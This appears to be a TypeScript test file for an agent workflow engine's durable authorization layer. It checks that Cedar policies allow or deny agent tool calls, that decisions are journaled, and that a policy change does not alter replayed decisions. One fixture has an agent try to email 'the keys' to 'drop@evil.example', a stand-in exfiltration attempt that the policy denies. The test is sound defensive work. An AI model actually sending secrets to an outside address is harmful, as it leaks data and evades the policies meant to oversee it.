import { afterEach, describe, expect, it } from 'vitest';
import type { AccessDecision } from '../src/access/access-request.ts';
import { assertAllowed, authorizeDurably } from '../src/access/authorize-durably.ts';
import { createGrant } from '../src/access/grant.ts';
import { actingFor, chainOf } from '../src/access/identity-chain.ts';
import { PolicyEngine } from '../src/access/policy-engine.ts';
import { defineWorkflow } from '../src/engine/workflow.ts';
import type { JournalEvent } from '../src/journal/events.ts';
import { verifyChain } from '../src/journal/hash-chain.ts';
import { harness, type Harness } from './support/harness.ts';

const STRICT = PolicyEngine.fromSources([
  {
    name: 'strict.cedar',
    text: `@id("agents-use-tools")
permit (principal is Agent, action == Action::"InvokeTool", resource);

@id("no-outside-email")
forbid (principal, action == Action::"InvokeTool", resource == Tool::"email.send")
unless { resource.hasTag("to") && resource.getTag("to") like "*@acme.com" };

@id("hand-off-inside")
permit (principal is Agent, action == Action::"HandOff", resource) when { resource in context.tenant };
`,
  },
]);
const LAX = PolicyEngine.fromSources([
  { name: 'lax.cedar', text: '@id("anything-goes") permit (principal, action, resource);' },
]);

/** The real engine of the moment, counting how often it is asked. */
let current = STRICT;
let evaluations = 0;
const policies = {
  authorize(request: Parameters<PolicyEngine['authorize']>[0]): AccessDecision {
    evaluations++;
    return current.authorize(request);
  },
} as PolicyEngine;

const grant = createGrant({ tenant: 'acme', holder: 'user:alice', actions: ['tool:email.*', 'handoff:*'] });

const mailer = defineWorkflow('mailer', async (ctx) => {
  const agent = actingFor(chainOf(ctx), 'agent:mailer');
  const email = await authorizeDurably(ctx, policies, {
    chain: agent,
    action: 'InvokeTool',
    resource: {
      kind: 'tool',
      name: 'email.send',
      effect: 'write',
      args: { to: 'drop@evil.example', body: 'the keys' },
    },
    grant,
  });
  const handoff = await authorizeDurably(
    ctx,
    policies,
    { chain: agent, action: 'HandOff', resource: { kind: 'agent', name: 'billing' }, grant },
    { commit: true },
  );
  await ctx.waitFor('go');
  const refund = await authorizeDurably(ctx, policies, {
    chain: agent,
    action: 'InvokeTool',
    resource: { kind: 'tool', name: 'payments.refund', effect: 'irreversible' },
    grant,
  });
  return { email, handoff, refund };
});

const open: Harness[] = [];
afterEach(async () => {
  for (const h of open.splice(0)) await h.close();
  current = STRICT;
  evaluations = 0;
});

describe('authorizeDurably', () => {
  it('journals each decision with actor, chain, grant and policies, and replays it without evaluating again', async () => {
    const h = await harness({ workflows: [mailer] });
    open.push(h);
    const run = await h.baton.start(mailer, null, { as: 'user:alice', tenant: 'acme' });
    await h.settle(run.runId, 'waiting');
    expect(evaluations).toBe(2);

    // The policies change while the run is parked: the past of the run must not.
    current = LAX;
    await h.baton.signal(run.runId, 'go', null, { tenant: 'acme' });
    const result = (await run.result()) as Record<string, AccessDecision>;
    expect(evaluations).toBe(3); // only the refund, decided live after the wait

    expect(result.email).toMatchObject({
      decision: 'deny',
      reason: 'policy',
      policies: ['no-outside-email'],
      grantId: grant.id,
    });
    expect(result.handoff).toMatchObject({
      decision: 'allow',
      policies: ['hand-off-inside'],
      resource: 'agent:billing',
    });
    expect(result.refund).toMatchObject({ decision: 'deny', reason: 'outside grant', policies: [] });

    const history = await run.history();
    expect(verifyChain(history).ok).toBe(true);
    const decisions = history.filter(
      (event) => event.type === 'tool.authorized' || event.type === 'access.decided',
    );
    expect(
      decisions.map((event) => [
        event.type,
        event.actor,
        event.onBehalfOf,
        (event.payload as { decision: string }).decision,
      ]),
    ).toEqual([
      ['tool.authorized', 'agent:mailer', ['workflow:mailer', 'user:alice'], 'deny'],
      ['access.decided', 'agent:mailer', ['workflow:mailer', 'user:alice'], 'allow'],
      ['tool.authorized', 'agent:mailer', ['workflow:mailer', 'user:alice'], 'deny'],
    ]);
    const email = decisions[0] as JournalEvent<'tool.authorized'>;
    expect(email.payload).toEqual({
      op: 1,
      name: 'email.send',
      action: 'InvokeTool',
      resource: 'tool:email.send',
      decision: 'deny',
      reason: 'policy',
      policies: ['no-outside-email'],
      errors: [],
      grantAction: 'tool:email.send',
      grantId: grant.id,
    });
    // The arguments (which could hold anything) are not in the decision event.
    expect(JSON.stringify(email)).not.toContain('evil.example');
    expect((decisions[1] as JournalEvent<'access.decided'>).payload.name).toBe('HandOff:agent:billing');
  });

  it('refuses an unknown action before anything is journaled', async () => {
    const bad = defineWorkflow('bad-action', async (ctx) => {
      await authorizeDurably(ctx, policies, {
        action: 'Launch' as 'HandOff',
        resource: { kind: 'agent', name: 'x' },
      });
      return 'unreachable';
    });
    const h = await harness({ workflows: [bad] });
    open.push(h);
    const run = await h.baton.start(bad, null, { as: 'user:alice' });
    await expect(run.result()).rejects.toThrow(/'Launch' is not an action Baton authorizes/);
    expect((await run.history()).map((event) => event.type)).toEqual(['run.started', 'run.failed']);
    expect(evaluations).toBe(0);
  });

  it('assertAllowed turns a deny into an AccessDeniedError naming the policy', () => {
    const decision: AccessDecision = {
      decision: 'deny',
      reason: 'policy',
      policies: ['no-outside-email'],
      errors: [],
      action: 'InvokeTool',
      resource: 'tool:email.send',
      grantAction: 'tool:email.send',
    };
    expect(() => assertAllowed(decision, { actor: 'agent:mailer' })).toThrow(
      'agent:mailer may not InvokeTool tool:email.send: denied (policy) by no-outside-email.',
    );
  });
});
